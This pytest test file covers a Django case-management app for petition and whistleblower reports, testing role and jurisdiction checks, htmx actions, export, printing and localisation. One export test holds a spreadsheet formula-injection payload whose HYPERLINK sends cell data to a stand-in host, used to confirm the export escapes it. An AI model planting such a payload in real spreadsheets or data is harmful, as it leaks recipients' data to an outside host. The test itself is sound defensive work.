"""Case screens: authorization matrix, query counts, the htmx actions, export, print."""

from __future__ import annotations

import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from lianqing.cases.models import Case, CaseEvent, HigherLevel, Status
from lianqing.core.models import AuditEvent, Clearance
from lianqing.core.roles import Role
from tests.cases.factories import act, register_case


@pytest.fixture
def staff(org_tree, make_user):
    class Staff:
        officer = make_user(Role.PETITION, org=org_tree.petition_office, username="xinfang")
        handler = make_user(Role.SUPERVISION, org=org_tree.supervision_office, username="jiancha")
        township = make_user(Role.PETITION, Role.SUPERVISION, org=org_tree.township_b, username="zhen")
        data_analyst = make_user(Role.DATA_ANALYSIS, org=org_tree.commission, username="shuju")
        leader = make_user(Role.LEADER, org=org_tree.commission, username="lingdao")

    return Staff


def _state(case):
    fresh = Case.objects.get(pk=case.pk)
    return fresh.status, fresh.version, CaseEvent.objects.filter(case=case).count()


def test_inbox_lists_only_visible_cases_within_query_budget(
    org_tree, staff, client_for, django_assert_max_num_queries
):
    ours = [register_case(org_tree.commission, summary=f"本级案件{i}") for i in range(5)]
    theirs = register_case(org_tree.township_b, summary="乙镇案件")
    secret = register_case(org_tree.commission, summary="机密案件", confidentiality=Clearance.CONFIDENTIAL)
    client = client_for(staff.officer)
    with django_assert_max_num_queries(14):
        response = client.get(reverse("cases:inbox"))
    body = response.content.decode()
    assert response.status_code == 200
    assert all(case.number in body for case in ours)
    assert theirs.number in body  # township B lies inside the commission
    assert secret.number not in body  # above the officer's clearance
    township_body = client_for(staff.township).get(reverse("cases:inbox")).content.decode()
    assert theirs.number in township_body
    assert ours[0].number not in township_body


def test_inbox_filters(org_tree, staff, client_for):
    dining = register_case(org_tree.commission, summary="公款吃喝问题", category="sifeng_dining")
    gifts = register_case(
        org_tree.commission, summary="收受红包问题", category="sifeng_gifts", source="letter"
    )
    client = client_for(staff.officer)
    body = client.get(
        reverse("cases:inbox"), {"category": "sifeng_gifts", "source": "letter"}
    ).content.decode()
    assert gifts.number in body
    assert dining.number not in body
    body = client.get(reverse("cases:inbox"), {"q": "吃喝"}).content.decode()
    assert dining.number in body
    assert gifts.number not in body


def test_anonymous_is_sent_to_login(org_tree):
    from django.test import Client

    response = Client().get(reverse("cases:inbox"))
    assert response.status_code == 302
    assert "/staff/login/" in response["Location"]


@pytest.mark.parametrize(
    ("who", "expected"),
    [("officer", 200), ("township", 404), ("data_analyst", 404)],
    ids=["right-jurisdiction", "other-jurisdiction", "wrong-role-dept"],
)
def test_case_page_matrix(org_tree, staff, client_for, who, expected):
    case = register_case(org_tree.commission)
    response = client_for(getattr(staff, who)).get(reverse("cases:detail", args=[case.pk]))
    assert response.status_code == expected


def test_action_buttons_follow_the_state_machine(org_tree, staff, client_for):
    case = register_case(org_tree.commission)
    body = client_for(staff.officer).get(reverse("cases:detail", args=[case.pk])).content.decode()
    assert 'id="open-accept"' in body
    assert 'id="open-conclude"' not in body


def test_htmx_action_moves_the_case_and_returns_the_panel(org_tree, staff, client_for):
    case = register_case(org_tree.commission)
    response = client_for(staff.officer).post(
        reverse("cases:act", args=[case.pk, "accept"]),
        {"accept-version": case.version},
        HTTP_HX_REQUEST="true",
    )
    assert response.status_code == 200
    body = response.content.decode()
    assert 'id="case-panel"' in body
    assert "受理 → 已受理" in body  # the timeline reads in words
    assert Case.objects.get(pk=case.pk).status == Status.ACCEPTED


@pytest.mark.parametrize(
    ("who", "action", "data"),
    [
        ("officer", "conclude", {"conclude-result": "x"}),  # not allowed from 待受理
        ("handler", "accept", {}),  # wrong place and role
        ("township", "accept", {}),  # other jurisdiction
        ("data_analyst", "accept", {}),  # wrong role
    ],
    ids=["wrong-state", "wrong-remit", "other-jurisdiction", "wrong-role"],
)
def test_refused_actions_change_nothing(org_tree, staff, client_for, who, action, data):
    case = register_case(org_tree.commission)
    before = _state(case)
    response = client_for(getattr(staff, who)).post(
        reverse("cases:act", args=[case.pk, action]),
        {f"{action}-version": case.version, **data},
        HTTP_HX_REQUEST="true",
    )
    assert response.status_code in {404, 200}
    assert _state(case) == before


def test_refusal_message_is_shown(org_tree, staff, client_for):
    case = register_case(org_tree.commission)
    response = client_for(staff.officer).post(
        reverse("cases:act", args=[case.pk, "reject"]),
        {"reject-version": case.version},
        HTTP_HX_REQUEST="true",
    )
    assert response.status_code == 200
    assert "请填写“理由”" in response.content.decode()


def _field_error(body: str, field_id: str) -> str:
    match = re.search(rf'id="{field_id}_error"[^>]*>([^<]*)<', body)
    return match.group(1) if match else ""


def test_error_is_at_the_field_in_words_and_the_form_stays_open(org_tree, staff, client_for):
    # Defect 4: no internal names in the message, the htmx form stays open with the error at the field
    case = register_case(org_tree.commission)
    act(case, "accept", staff.officer)
    response = client_for(staff.officer).post(
        reverse("cases:act", args=[case.pk, "assign"]),
        {"assign-version": case.version, "assign-route": "department", "assign-mode": "delegate"},
        HTTP_HX_REQUEST="true",
    )
    body = response.content.decode()
    assert _field_error(body, "id_assign-to_org") == "请选择承办机构"
    assert "to_org" not in re.sub(r'(id|name|for|aria-describedby)="[^"]*"', "", body)
    assert re.search(r'class="collapse show"[^>]*id="action-assign"', body)
    assert Case.objects.get(pk=case.pk).status == Status.ACCEPTED


def test_required_fields_are_marked(org_tree, staff, client_for):
    case = register_case(org_tree.commission)
    body = client_for(staff.officer).get(reverse("cases:detail", args=[case.pk])).content.decode()
    label = re.search(r'<label[^>]*for="id_reject-reason"[^>]*>(.*?)</label>', body, re.S)
    assert label
    assert "lq-required" in label.group(1)


def test_merge_by_number_into_foreign_case_is_refused(org_tree, staff, client_for):
    from lianqing.core.models import OrgKind
    from tests.core.factories import OrgFactory

    foreign = register_case(OrgFactory(org_code="ELSE", kind=OrgKind.COMMISSION))
    case = register_case(org_tree.commission)
    response = client_for(staff.officer).post(
        reverse("cases:act", args=[case.pk, "merge"]),
        {"merge-version": case.version, "merge-original_number": foreign.number},
        HTTP_HX_REQUEST="true",
    )
    assert "不属于本机关管辖" in response.content.decode()
    assert Case.objects.get(pk=case.pk).status == Status.PENDING


def test_stale_form_is_refused(org_tree, staff, client_for):
    case = register_case(org_tree.commission)
    act(case, "accept", staff.officer)
    response = client_for(staff.officer).post(
        reverse("cases:act", args=[case.pk, "to_lead"]), {"to_lead-version": 1}, HTTP_HX_REQUEST="true"
    )
    assert "已被他人更新" in response.content.decode()


def test_bulk_assign(org_tree, staff, client_for):
    cases = [register_case(org_tree.commission) for _ in range(3)]
    for case in cases[:2]:
        act(case, "accept", staff.officer)
    response = client_for(staff.officer).post(
        reverse("cases:bulk_assign"),
        {"case_ids": [c.pk for c in cases], "to_org": org_tree.supervision_office.pk, "mode": "delegate"},
    )
    assert response.status_code == 302
    statuses = [Case.objects.get(pk=c.pk).status for c in cases]
    assert statuses == [Status.ASSIGNED, Status.ASSIGNED, Status.PENDING]


def test_export_is_the_filtered_list_without_reports_about_the_level_above(org_tree, staff, client_for):
    kept = register_case(org_tree.commission, summary="导出这一件", source="letter")
    register_case(org_tree.commission, summary="不在筛选内", source="phone")
    register_case(
        org_tree.commission, summary="反映上级", source="letter", higher_level=HigherLevel.LEVEL_ABOVE
    )
    response = client_for(staff.officer).get(reverse("cases:export"), {"source": "letter"})
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert [row[0] for row in rows[1:]] == [kept.number]
    assert AuditEvent.objects.filter(action="export", actor=staff.officer).exists()


def test_export_never_hands_a_reporters_text_to_the_spreadsheet_as_a_formula(org_tree, staff, client_for):
    register_case(org_tree.commission, summary='=HYPERLINK("http://x.example/?"&A1,"点击")', source="letter")
    response = client_for(staff.officer).get(reverse("cases:export"), {"source": "letter"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    summary_cell = sheet.cell(row=2, column=5)
    assert summary_cell.data_type == "s"
    assert summary_cell.value == '\'=HYPERLINK("http://x.example/?"&A1,"点击")'


def test_print_form(org_tree, staff, client_for):
    case = register_case(org_tree.commission)
    body = client_for(staff.officer).get(reverse("cases:print", args=[case.pk])).content.decode()
    assert "信访举报登记表" in body
    assert case.summary in body


def test_register_by_hand(org_tree, staff, client_for):
    response = client_for(staff.officer).post(
        reverse("cases:register"),
        {
            "kind": "petition",
            "source": "visit",
            "category": "bribery",
            "summary": "来访反映某村支书收受工程款回扣",
            "reported_persons": "王五，某村，党支部书记",
            "received_at": "2025-03-03T09:30",
            "confidentiality": "0",
            "province": "370000",
            "city": "370100",
            "county": "370102",
        },
    )
    case = Case.objects.get(summary__startswith="来访反映")
    assert response.status_code == 302
    assert case.region_code == "370102"  # Defect 7: chosen by name in the cascade, not typed
    assert (case.source, case.created_by, case.home_org) == ("visit", staff.officer, org_tree.commission)
    assert list(case.reported_persons.values_list("name", "org_name", "position")) == [
        ("王五", "某村", "党支部书记")
    ]


def test_register_needs_the_role(org_tree, staff, client_for):
    response = client_for(staff.handler).get(reverse("cases:register"))
    assert response.status_code == 403


def test_notes_and_attachments(org_tree, staff, client_for, settings, tmp_path):
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.MEDIA_ROOT = tmp_path
    case = register_case(org_tree.commission)
    client = client_for(staff.officer)
    client.post(reverse("cases:add_note", args=[case.pk]), {"text": "已电话联系举报人"})
    client.post(
        reverse("cases:add_attachment", args=[case.pk]), {"file": SimpleUploadedFile("证据.txt", b"evidence")}
    )
    body = client.get(reverse("cases:detail", args=[case.pk])).content.decode()
    assert "已电话联系举报人" in body
    attachment = case.attachments.get()
    download = client.get(reverse("cases:attachment", args=[case.pk, attachment.pk]))
    assert b"".join(download.streaming_content) == b"evidence"
    assert AuditEvent.objects.filter(action="view", object_type="cases.caseattachment").exists()


def test_due_soon_and_overdue_filters(org_tree, staff, client_for):
    from django.utils import timezone

    from lianqing.cases.deadlines import add_working_days

    due_soon = register_case(org_tree.commission, summary="临期")
    overdue = register_case(org_tree.commission, summary="超期")
    later = register_case(org_tree.commission, summary="未到期")
    today = timezone.localdate()
    Case.objects.filter(pk=due_soon.pk).update(deadline=add_working_days(today, 2))
    Case.objects.filter(pk=overdue.pk).update(deadline=today - timezone.timedelta(days=1))
    Case.objects.filter(pk=later.pk).update(deadline=add_working_days(today, 10))
    client = client_for(staff.officer)
    soon_body = client.get(reverse("cases:inbox"), {"due_soon": "on"}).content.decode()
    overdue_body = client.get(reverse("cases:inbox"), {"overdue": "on"}).content.decode()
    assert (due_soon.number in soon_body, overdue.number in soon_body, later.number in soon_body) == (
        True,
        False,
        False,
    )
    assert (due_soon.number in overdue_body, overdue.number in overdue_body) == (False, True)


@pytest.mark.parametrize(
    "who", ["handler", "township", "data_analyst"], ids=["wrong-role", "other-jurisdiction", "no-case-role"]
)
def test_bulk_assign_refused_changes_nothing(org_tree, staff, client_for, who):
    case = register_case(org_tree.commission)
    act(case, "accept", staff.officer)
    before = _state(case)
    client_for(getattr(staff, who)).post(
        reverse("cases:bulk_assign"), {"case_ids": [case.pk], "to_org": org_tree.supervision_office.pk}
    )
    assert _state(case) == before


@pytest.mark.parametrize(
    ("role", "may_assign"),
    [
        (Role.PETITION, True),
        (Role.CASE_MANAGEMENT, True),
        (Role.LEADER, True),
        (Role.SUPERVISION, False),
        (Role.TRIAL, False),
        (Role.DATA_ANALYSIS, False),
    ],
    ids=lambda value: str(getattr(value, "name", value)),
)
def test_bulk_assign_only_for_roles_that_assign(org_tree, make_user, client_for, role, may_assign):
    # Defect 12: 监督检查, 审理 and 数据分析 saw the bulk-assign controls
    user = make_user(role, org=org_tree.commission)
    register_case(org_tree.commission)
    body = client_for(user).get(reverse("cases:inbox")).content.decode()
    assert ('id="bulk-submit"' in body) is may_assign
    assert ('name="case_ids"' in body) is may_assign


@pytest.mark.parametrize(
    ("role", "query", "explanation"),
    [
        (Role.DATA_ANALYSIS, "", "您的角色不办理案件"),
        (Role.SUPERVISION, "", "您的管辖范围内暂无案件"),
        (Role.SUPERVISION, "?q=不存在", "没有符合筛选条件的案件"),
    ],
    ids=["role-without-cases", "nothing-yet", "filtered-out"],
)
def test_an_empty_inbox_says_why(org_tree, make_user, client_for, role, query, explanation):
    user = make_user(role, org=org_tree.supervision_office)
    body = client_for(user).get(reverse("cases:inbox") + query).content.decode()
    assert explanation in body


def _without_data(body: str, *data: str) -> str:
    """The page's own words: markup, scripts and the data shown on it removed."""
    text = re.sub(r"<script.*?</script>|<[^>]+>", " ", body, flags=re.S)
    for value in data:
        text = text.replace(value, " ")
    return text


def test_case_pages_in_english_carry_no_chinese(org_tree, staff, client_for, settings):
    # Defect 9: status words, history entries, deadline labels and messages leaked Chinese/English
    case = register_case(org_tree.commission, summary="Dinner at public expense", persons=[])
    act(case, "accept", staff.officer)
    client = client_for(staff.officer)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    from lianqing.core.models import Org, User

    # data (org and people names) and the language switch may be Chinese; the page's words may not
    data = sorted({*Org.objects.values_list("name", flat=True), *map(str, User.objects.all())}, key=len)[::-1]
    data += ["廉情", "简体中文", "中文"]
    detail = client.get(reverse("cases:detail", args=[case.pk])).content.decode()
    leaks = re.findall(r"[\u4e00-\u9fff][^<>\n]{0,20}", _without_data(detail, *data))
    assert leaks == [], leaks
    assert "Assign" in detail
    assert "working days left" in detail
    refused = client.post(
        reverse("cases:act", args=[case.pk, "assign"]),
        {"assign-version": case.version, "assign-route": "department", "assign-mode": "delegate"},
        HTTP_HX_REQUEST="true",
    ).content.decode()
    assert "Please choose the org in charge" in refused
    assert re.findall(r"[\u4e00-\u9fff][^<>\n]{0,20}", _without_data(refused, *data)) == []


def test_register_form_offers_the_region_cascade_at_the_commissions_region(org_tree, staff, client_for):
    org_tree.commission.region_code = "370124"
    org_tree.commission.save(update_fields=["region_code"])
    body = client_for(staff.officer).get(reverse("cases:register")).content.decode()
    assert 'name="region_code"' not in body
    assert re.search(r'<option value="370124" selected>[^<]+</option>', body)
    assert re.search(r'<option value="370100" selected>济南市</option>', body)
